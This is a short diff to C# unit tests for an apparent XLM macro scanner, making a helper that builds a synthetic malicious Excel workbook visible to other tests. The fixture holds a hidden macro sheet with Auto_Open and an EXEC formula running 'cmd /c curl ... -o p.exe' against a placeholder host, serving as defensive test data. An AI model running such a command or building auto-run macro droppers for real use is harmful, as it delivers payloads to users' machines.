@@ -44,7 +44,7 @@ public sealed class XlmScannerTests
 
     /// <summary>A BIFF8 workbook: globals (BOF, a very hidden macro sheet, a built-in Auto_Open name, EOF), then the
     /// macro sheet with one formula, by default =EXEC("...").</summary>
-    private static byte[] Workbook(byte[]? tokens = null)
+    internal static byte[] Workbook(byte[]? tokens = null)
     {
         const string Command = "cmd /c curl http://xl4.example.org/p -o p.exe";
         var rgce = tokens ?? [0x17, (byte)Command.Length, 0x00, .. Encoding.ASCII.GetBytes(Command), 0x42, 0x01, 110, 0x00];
